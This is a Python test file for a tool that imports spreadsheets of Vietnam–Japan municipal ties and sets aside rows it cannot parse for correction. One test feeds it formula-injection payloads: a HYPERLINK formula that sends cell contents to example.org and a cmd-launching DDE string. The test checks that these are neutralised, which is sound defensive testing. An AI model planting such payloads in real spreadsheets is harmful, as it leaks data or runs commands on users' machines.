"""A file of the user's becomes tables like ours; what cannot be understood stands beside them to be mended."""

import csv
from hashlib import blake2b
from pathlib import Path

import pytest
from books import workbook

from loaders.imports import importer
from loaders.imports import user_datasets as own
from loaders.imports.importer import Loaded, NothingLoadedError
from loaders.imports.mapping import MappingError
from loaders.imports.stream import stream
from loaders.model.problems import Problem
from loaders.sources.source import Harvest, UnresolvedRow
from loaders.tables.catalogue import Catalogue, load
from loaders.tables.datasets import datasets

HEAD = "Vietnam,Japan,Kind,Signed,Note,Link\n"


def written(path: Path, rows: str, head: str = HEAD) -> Path:
    path.write_text(head + rows, "utf-8")
    return path


def take_in(graph: Path, path: Path, catalogue: Catalogue, name: str = "mine") -> tuple[Loaded, list[str]]:
    """Load a file as is proposed: what came of it, and what was said."""
    problems: list[Problem] = []
    how = importer.proposed(path, catalogue, problems.append)
    loaded = importer.load(graph, path, name, how, catalogue, problems.append)
    return loaded, [f"{one.row}: {one.message}" for one in problems]


def rows(graph: Path, table: str, name: str = "mine") -> list[dict[str, str]]:
    """The rows of a kept table, without their empty cells."""
    with (own.one(graph, name).folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return [{column: cell for column, cell in row.items() if cell} for row in csv.DictReader(file)]


def digest(text: str) -> str:
    return blake2b(text.encode(), digest_size=5).hexdigest()


def test_a_row_has_its_localities_by_their_ids_and_the_file_as_a_source(tmp_path: Path, catalogue: Catalogue) -> None:
    path = written(tmp_path / "Đối tác.csv", "Quy Nhơn,足利市,MOU,11/11/2024,by hand,\nHà Tĩnh,旭川市,sister city,,,\n")
    loaded, said = take_in(tmp_path, path, catalogue)
    assert (loaded, said) == (Loaded("mine", changed=True, rows=2), [])
    assert rows(tmp_path, "ties") == [
        {"tie_id": "binh-dinh-quy-nhon--tochigi-ashikaga--mou--2024-11-11--mine", "vn_name": "vn/binh-dinh/quy-nhon",
         "jp_name": "jp/tochigi/ashikaga", "kind": "mou", "signed": "2024-11-11", "note": "by hand", "sources": "mine"},
        {"tie_id": "ha-tinh--hokkaido-asahikawa--sister-city--undated--mine", "vn_name": "vn/ha-tinh",
         "jp_name": "jp/hokkaido/asahikawa", "kind": "sister-city", "sources": "mine"},
    ]  # fmt: skip
    assert rows(tmp_path, "sources") == [{"source_id": "mine", "title": "Đối tác.csv"}]
    one = own.one(tmp_path, "mine")
    assert (one.folder / "given.csv").read_bytes() == path.read_bytes()
    assert (one.descriptor["title"], one.descriptor["mapping"][0]["columns"]["vn_name"]) == ("Đối tác.csv", ["Vietnam"])


def test_pages_and_words_that_a_row_cites_are_sources_and_one_of_ours_is_ours(
    tmp_path: Path, catalogue: Catalogue
) -> None:
    page, book = "https://example.org/a?b=1", "Niên giám 2024"
    path = written(
        tmp_path / "mine.csv",
        f"Da Nang,Asahikawa,MOU,2001,,{page}\nDa Nang,Asahikawa,MOU,2003,,{book}\n"
        f"Da Nang,Asahikawa,MOU,2005,,{page}\nDa Nang,Asahikawa,MOU,2007,,vna-fr-da-nang\n",
    )
    take_in(tmp_path, path, catalogue)
    first, second = (f"mine--{digest(said)}" for said in (page, book))
    assert [row["sources"] for row in rows(tmp_path, "ties")] == [
        f"mine;{first}", f"mine;{second}", f"mine;{first}", "mine;vna-fr-da-nang"
    ]  # fmt: skip
    assert rows(tmp_path, "sources") == [
        {"source_id": "mine", "title": "mine.csv"},
        {"source_id": first, "title": page, "url": page},
        {"source_id": second, "title": book},
    ]


def test_what_a_file_says_twice_is_counted_once(tmp_path: Path, catalogue: Catalogue) -> None:
    twice = "Da Nang,堺市,MOU,2009-02-20,,\nĐà Nẵng,堺市,Biên bản ghi nhớ,20/02/2009,in other words,\n"
    loaded, said = take_in(tmp_path, written(tmp_path / "mine.csv", twice), catalogue)
    assert (loaded, said) == (Loaded("mine", changed=True, rows=1, repeated=1), [])
    assert len(rows(tmp_path, "ties")) == 1


def test_rows_that_are_not_understood_are_kept_as_they_were_with_number_and_reason(
    tmp_path: Path, catalogue: Catalogue
) -> None:
    path = written(
        tmp_path / "mine.csv",
        'Xyzzy,堺市,MOU,2020,"a, “note”",\nDa Nang,堺市,MOU,2001,,\nDa Nang,川崎,Freundschaft,31/02/2020,,\n'
        "Quy Nhơn,足利市,MOU,2026-01-01,,\nTổng cộng,4,,,,\n",
    )
    loaded, said = take_in(tmp_path, path, catalogue)
    assert (loaded.rows, loaded.left, loaded.passed_over) == (1, 3, 1)
    first, second, third = rows(tmp_path, "to-mend")
    assert first.pop("problem") == "vn_name: “Xyzzy” is no locality we know"
    assert first == {
        "row": "2",
        "Vietnam": "Xyzzy",
        "Japan": "堺市",
        "Kind": "MOU",
        "Signed": "2020",
        "Note": "a, “note”",
    }
    assert second["row"] == "4"
    for reason in ("Kind: “Freundschaft” is not known", "Signed: “31/02/2020”"):
        assert reason in second["problem"]
    assert (second["Japan"], second["Signed"]) == ("川崎", "31/02/2020")
    assert "Quy Nhon" in third["problem"]
    assert "name the successor" in third["problem"]
    assert "6: is a total" in said
    assert {one.partition(":")[0] for one in said} == {"2", "4", "5", "6"}
    assert [path.name for path in own.one(tmp_path, "mine").paths] == ["sources.csv", "ties.csv"]


def test_the_table_to_be_mended_can_be_mended_and_loaded_itself(tmp_path: Path, catalogue: Catalogue) -> None:
    path = written(tmp_path / "mine.csv", "Xyzzy,堺市,MOU,2020,,\nDa Nang,堺市,MOU,2001,,\n")
    take_in(tmp_path, path, catalogue)
    wrong = own.one(tmp_path, "mine").folder / "to-mend.csv"
    mended = tmp_path / "mended.csv"
    mended.write_text(wrong.read_text("utf-8-sig").replace("Xyzzy", "Hà Tĩnh"), "utf-8")
    loaded, _ = take_in(tmp_path, mended, catalogue, "rest")
    assert loaded.rows == 1
    assert rows(tmp_path, "ties", "rest")[0]["vn_name"] == "vn/ha-tinh"


FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"])
def test_no_cell_of_the_table_to_be_mended_is_a_formula(tmp_path: Path, catalogue: Catalogue, cell: str) -> None:
    with (tmp_path / "mine.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [["Vietnam", "Japan", "Kind", "Signed", "Note"], ["Da Nang", "堺市", "MOU", "2001", ""],
             ["Xyzzy", "堺市", "MOU", "2001", cell]]
        )  # fmt: skip
    take_in(tmp_path, tmp_path / "mine.csv", catalogue)
    [row] = rows(tmp_path, "to-mend")
    assert row["Note"] == f"'{cell}"


def test_a_spreadsheet_sees_that_the_table_to_be_mended_is_utf_8(tmp_path: Path, catalogue: Catalogue) -> None:
    path = written(tmp_path / "mine.csv", "Xyzzy,堺市,MOU,2020,,\nDa Nang,堺市,MOU,2001,,\n")
    take_in(tmp_path, path, catalogue)
    wrong = own.one(tmp_path, "mine").folder / "to-mend.csv"
    assert wrong.read_bytes().startswith("\ufeff".encode())


def test_each_sheet_is_read_and_has_a_table_to_be_mended(tmp_path: Path, catalogue: Catalogue) -> None:
    head = ["Vietnam", "Japan", "Kind", "Signed"]
    path = workbook(
        tmp_path / "mine.xlsx",
        {
            "one": [head, ["Da Nang", "堺市", "MOU", 2001], ["Xyzzy", "堺市", "MOU", 2002]],
            "remarks": [["All of this is by hand"], ["and for nobody else"]],
            "two": [head, ["Da Nang", "堺市", "MOU", 2001], ["Da Nang", "堺市", "MOU", "=2000+3"],
                    ["Da Nang", "Asahikawa", "MOU", 2004]],
        },
    )  # fmt: skip
    loaded, said = take_in(tmp_path, path, catalogue)
    assert (loaded.rows, loaded.repeated, loaded.left) == (2, 1, 2)
    assert [row["signed"] for row in rows(tmp_path, "ties")] == ["2001", "2004"]
    assert [row["row"] for row in rows(tmp_path, "to-mend")] == ["3"]
    [formula] = rows(tmp_path, "to-mend-3")
    assert (formula["row"], formula["problem"]) == ("3", "D3 holds a formula; paste its value")
    assert any("no row of headings is understood" in one for one in said)


@pytest.mark.parametrize("content", ["Xyzzy,堺市,MOU,2020,,\n", ""])
def test_where_no_row_is_understood_nothing_changes(tmp_path: Path, catalogue: Catalogue, content: str) -> None:
    take_in(tmp_path, written(tmp_path / "mine.csv", "Da Nang,堺市,MOU,2001,,\n"), catalogue)
    before = own.index(tmp_path)
    path = written(tmp_path / "mine.csv", content)
    with pytest.raises(NothingLoadedError, match="no row could be understood; nothing was changed"):
        take_in(tmp_path, path, catalogue)
    assert own.index(tmp_path) == before
    assert [row["signed"] for row in rows(tmp_path, "ties")] == ["2001"]
    assert {one.name for one in (tmp_path / "tables").iterdir()} == {
        "index", "lock", own.one(tmp_path, "mine").folder.name
    }  # fmt: skip


def test_a_column_that_every_row_needs_is_asked_for(tmp_path: Path, catalogue: Catalogue) -> None:
    path = written(tmp_path / "mine.csv", "堺市,MOU\n", head="Japan,Kind\n")
    with pytest.raises(MappingError, match="no column says vn_name"):
        take_in(tmp_path, path, catalogue)
    assert own.own(tmp_path) == []


def test_a_file_without_headings_is_told_of(tmp_path: Path, catalogue: Catalogue) -> None:
    path = written(tmp_path / "mine.csv", "nothing\n", head="nowhere\n")
    with pytest.raises(MappingError, match="no row of headings is understood"):
        importer.proposed(path, catalogue, print)


def test_it_says_how_far_it_has_got(tmp_path: Path, catalogue: Catalogue) -> None:
    days = [
        f"{year}-{month:02}-{day:02}" for year in range(1980, 1987) for month in range(1, 13) for day in range(1, 28)
    ]
    path = written(tmp_path / "mine.csv", "".join(f"Hanoi,堺市,MOU,{day},,\n" for day in days))
    counted: list[int] = []
    how = importer.proposed(path, catalogue, print)
    loaded = importer.load(tmp_path, path, "mine", how, catalogue, print, counted.append)
    assert loaded.rows == len(days)
    begins, each = len(HEAD.encode()), len(f"Hanoi,堺市,MOU,{days[0]},,\n".encode())
    ahead = 999  # rows, and the headings, are looked at before the first is taken in
    assert counted == [begins + max(rows + 1, ahead) * each for rows in range(0, len(days), 1_000)]


def test_what_a_public_source_yields_is_kept_with_what_it_held(tmp_path: Path) -> None:
    source = {"source_id": "wikidata-q1", "title": "a page", "url": "https://example.org/"}
    about = {"title": "Wikidata", "created": "2026-11-22", "licenses": [], "sources": []}
    left = [UnresolvedRow({"partner": "Atlantis"}, "no such place", ("jp/a", "jp/b"))]
    harvest = Harvest(about, {"sources": [source], "beyond": [{"one": "x"}]}, left, counts={"names": 3, "resolved": 2})
    assert importer.take(tmp_path, "wikidata", harvest) == Loaded("wikidata", changed=True, rows=2, left=1)
    assert not importer.take(tmp_path, "wikidata", harvest).changed
    one = own.one(tmp_path, "wikidata")
    assert one.descriptor["counts"] == {"names": 3, "resolved": 2}
    assert [path.name for path in one.paths] == ["sources.csv"]
    assert rows(tmp_path, "beyond", "wikidata") == [{"one": "x"}]
    assert rows(tmp_path, "to-mend", "wikidata") == [
        {"problem": "no such place", "candidates": "jp/a; jp/b", "partner": "Atlantis"}
    ]


# --- localities of the user's own --------------------------------------------------------------------------------


def loaded_with(graph: Path, tables: dict[str, str]) -> Catalogue:
    """All that is known after tables have been loaded one after another, by their names."""
    known = load(datasets())
    for name, text in tables.items():
        path = graph / f"{name}.csv"
        path.write_text(text, "utf-8")
        take_in(graph, path, known, f"my-{name}")
        known = load(datasets(), own.own(graph))
    return known


PLACES = "id,name,name_ja,level,part_of\njp/osaka/soramachi,Soramachi,空町,town,jp/osaka\n"
NAMES = "locality,name,language\njp/osaka/sakai,Sakaiopolis,en\n"
AFTER = "predecessor,successor,date\njp/osaka/soramachi,jp/osaka/sakai,2020-04-01\n"
TIES = "Vietnam,Japan,Kind,Signed\nDa Nang,空町,MOU,2001\nDa Nang,Sakaiopolis,MOU,2009-02-20\nDa Nang,旭川市,MOU,2001\n"


def test_localities_and_names_of_ones_own_are_understood(tmp_path: Path) -> None:
    known = loaded_with(tmp_path, {"localities": PLACES, "names": NAMES, "ties": TIES})
    assert not known.problems
    ties = rows(tmp_path, "ties", "my-ties")
    assert [row["jp_name"] for row in ties][:2] == ["jp/osaka/soramachi", "jp/osaka/sakai"]
    matched = {match.row.places["jp"]: match.known for match in known.matches["my-ties"]}
    assert matched["jp/osaka/soramachi"] is None
    assert matched["jp/osaka/sakai"]


def test_a_succession_of_ones_own_finds_the_document_of_who_was_before(tmp_path: Path) -> None:
    later = "Vietnam,Japan,Kind,Signed\nHà Tĩnh,堺市,MOU,2001-02-03\n"
    first = later.replace("堺市", "空町")
    known = loaded_with(tmp_path, {"localities": PLACES, "successions": AFTER, "a": first, "b": later})
    [match] = known.matches["my-b"]
    assert match.known
    assert match.known.places["jp"] == "jp/osaka/soramachi"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("localities", "id,name,level,part_of\njp/osaka/sakai,Sakai,town,jp/osaka\njp/osaka/x,Xmachi,town,jp/osaka\n"),
        ("names", "locality,name,language\njp/osaka/nowhere,Sora,en\njp/osaka/sakai,Sakaiopolis,en\n"),
        ("successions", "predecessor,successor,date\nvn/nowhere,vn/hue,2020\njp/osaka/sakai,jp/hyogo/kobe,2026-01\n"),
    ],
)  # fmt: skip
def test_wrong_localities_of_ones_own_hold_nothing_up(
    tmp_path: Path, catalogue: Catalogue, name: str, text: str
) -> None:
    known = loaded_with(tmp_path, {name: text})
    assert not known.problems
    for one in datasets():
        assert known.records[one.name] == catalogue.records[one.name]


def test_a_name_that_ours_have_already_makes_none_of_our_rows_wrong(tmp_path: Path, catalogue: Catalogue) -> None:
    known = loaded_with(tmp_path, {"names": "locality,name,language\nvn/hue,Da Nang,en\n"})
    assert not known.problems
    assert known.records["ties"] == catalogue.records["ties"]


SPREADSHEETS = Path(__file__).parent / "spreadsheets"


@pytest.mark.parametrize("path", sorted(SPREADSHEETS.glob("*.xlsx")), ids=lambda path: path.name)
def test_a_large_file_that_two_processes_read_states_what_one_reads(
    path: Path, catalogue: Catalogue, monkeypatch: pytest.MonkeyPatch
) -> None:
    how = importer.proposed(path, catalogue, print)
    alone = list(stream(path, how))

    monkeypatch.setattr("loaders.imports.stream._LARGE", 0)

    assert list(stream(path, how)) == alone


def test_documents_of_a_table_like_ours_still_follow_one_another_and_ours(tmp_path: Path, catalogue: Catalogue) -> None:
    head = "tie_id,vn_name,jp_name,kind,signed,follows,follows_as,sources\n"
    path = written(
        tmp_path / "ties.csv",
        "second,Hà Tĩnh,旭川市,mou,2015,first,renews,\nfirst,Hà Tĩnh,旭川市,mou,2010,,,\n"
        "third,Đà Nẵng,堺市,mou,2024-12-01,da-nang--sakai--friendship-city--2019,renews,\n",
        head,
    )
    take_in(tmp_path, path, catalogue)
    assert [(row["tie_id"], row.get("follows", "")) for row in rows(tmp_path, "ties")] == [
        ("second--mine", "first--mine"),
        ("first--mine", ""),
        ("third--mine", "da-nang--sakai--friendship-city--2019"),
    ]
    parties = [(row["vn_name"], row["jp_name"]) for row in rows(tmp_path, "ties")]
    assert parties == [("vn/ha-tinh", "jp/hokkaido/asahikawa")] * 2 + [("vn/da-nang", "jp/osaka/sakai")]
